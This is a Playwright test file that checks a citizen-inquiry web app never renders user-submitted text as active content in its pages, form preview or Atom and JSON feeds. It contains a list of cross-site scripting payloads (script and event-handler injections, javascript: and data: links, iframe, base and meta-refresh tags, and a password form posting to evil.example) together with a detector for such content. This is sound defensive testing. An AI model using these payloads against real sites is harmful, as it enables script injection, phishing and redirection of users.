import { expect, test } from '@playwright/test'
import { become } from '#tests/journeys/people.ts'
import { fileQuestion, sendQuestion } from './by-hand.ts'

const ATTACKS = [
	'<script>window.struck = 1</script>',
	'<img src=x onerror="window.struck = 1">',
	'<svg onload="window.struck = 1"><animate onbegin="window.struck = 1"/></svg>',
	'[a](javascript:window.struck=1)',
	'[a](JaVaScRiPt&colon;window.struck=1)',
	'[a](&#106;avascript:window.struck=1)',
	'[a](data:text/html;base64,PHNjcmlwdD4=)',
	'[a](vbscript:msgbox)',
	'[a](//evil.example/x)',
	'![a](https://evil.example/pixel.png)',
	'[a](https://a.example "\\" onmouseover=\\"window.struck=1")',
	'<a href="javascript:window.struck=1">a</a>',
	'<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
	'<style>body{display:none}</style><link rel=stylesheet href=//evil.example>',
	'<form action="https://evil.example"><input name=password><button>Send</button></form>',
	'<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
	'<math><mi xlink:href="javascript:window.struck=1">a</mi></math>',
	'```html"><script>window.struck=1</script>\n</code></pre><script>window.struck=1</script>\n```',
	'`</code><script>window.struck=1</script>`',
	'<!--><script>window.struck=1</script-->',
	'</textarea></script></title><script>window.struck=1</script>',
	'<div id="main" class="demo-banner" style="position:fixed">a</div>',
	'[x]: javascript:window.struck=1\n\n[x]',
	'| a |\n|---|\n| <script>window.struck=1</script> |',
]
const SUBJECT = '<script>window.struck=1</script>"><img src=x onerror=window.struck=1>'

test('no text that anybody sends becomes a part of a page', async ({ page }) => {
	test.setTimeout(60_000)
	const struck: string[] = []
	page.on('dialog', (dialog) => struck.push(dialog.message()))
	page.on('request', (asked) => asked.url().includes('evil.example') && struck.push(asked.url()))
	await become(page, 'citizen')
	const { receipt, number } = await fileQuestion(page.request, {
		subject: SUBJECT,
		text: ATTACKS.join('\n\n'),
	})
	const pages = [
		receipt,
		`/en/inquiries/${number}`,
		'/en/inquiries',
		'/en/offices/env-minister',
		'/en/search?q=script',
		`/en/search?q=${encodeURIComponent(SUBJECT)}`,
		'/en/account',
	]
	for (const path of pages) {
		await page.goto(path)
		expect(await page.evaluate(dangers), path).toEqual([])
	}
	await become(page, 'clerk', 'ENV')
	await page.goto(`/en/inquiries/${number}`)
	await page.getByRole('link', { name: 'Open on the desk' }).click()
	expect(await page.evaluate(dangers), 'the desk').toEqual([])
	expect(struck).toEqual([])
})

test('the step before filing shows a hostile text as harmlessly, and keeps it as typed', async ({ page }) => {
	await become(page, 'citizen')
	const text = ATTACKS.join('\n\n')
	const answer = await sendQuestion(page.request, { intent: 'check', subject: SUBJECT, text })
	await page.setContent(await answer.text())
	expect(await page.evaluate(dangers)).toEqual([])
	expect(await page.locator('input[type=hidden][name=text]').inputValue()).toBe(text)
})

test('feeds hold a hostile text as text', async ({ page }) => {
	await become(page, 'citizen')
	const { number } = await fileQuestion(page.request, { subject: SUBJECT, text: ATTACKS.join('\n\n') })
	await page.goto('/en/sign-up')
	for (const path of ['/en/inquiries/feed.atom', '/en/offices/env-minister/feed.atom']) {
		const xml = await (await page.request.get(path)).text()
		if (path.includes('inquiries')) expect(xml).toContain(number)
		const found = await page.evaluate((xml) => {
			const document = new DOMParser().parseFromString(xml, 'application/xml')
			const html = [...document.querySelectorAll('content, summary')].map((one) => one.textContent ?? '')
			const shown = new DOMParser().parseFromString(html.join('\n'), 'text/html')
			return {
				broken: document.querySelectorAll('parsererror').length,
				scripts: document.querySelectorAll('script').length,
				active: shown.querySelectorAll('script, img, svg, iframe, form, style, [onerror], [onload]').length,
			}
		}, xml)
		expect(found, path).toEqual({ broken: 0, scripts: 0, active: 0 })
	}
	const json = await (await page.request.get('/en/inquiries/feed.json')).json()
	expect(JSON.stringify(json)).toContain(number)
})

/** Whatever on the page could act: it is looked for in the tree, as the browser has understood it. */
function dangers(): string[] {
	const found: string[] = []
	const own = (element: Element) => element.closest('header.site-header, footer, .site-own') !== null
	for (const element of document.querySelectorAll('*')) {
		const name = element.tagName.toLowerCase()
		const foreign = (element.getAttribute('src') ?? element.getAttribute('action') ?? '').includes('evil')
		if (/^(iframe|object|embed|base|style|math|animate)$/.test(name)) found.push(name)
		if (name === 'script' && element.textContent?.includes('struck')) found.push('script')
		if (name === 'meta' && element.hasAttribute('http-equiv')) found.push('meta')
		if (name === 'img' && !own(element)) found.push(element.outerHTML)
		if (foreign) found.push(element.outerHTML.slice(0, 100))
		for (const attribute of element.attributes)
			if (/^on/.test(attribute.name) || /^(style)$/.test(attribute.name)) found.push(attribute.name)
		const href = element.getAttribute('href') ?? element.getAttribute('xlink:href') ?? ''
		if (/^\s*(javascript|data|vbscript):/i.test(href)) found.push(href)
	}
	if ('struck' in window) found.push('it ran')
	if (document.querySelectorAll('#main').length > 1) found.push('a second main')
	return found
}
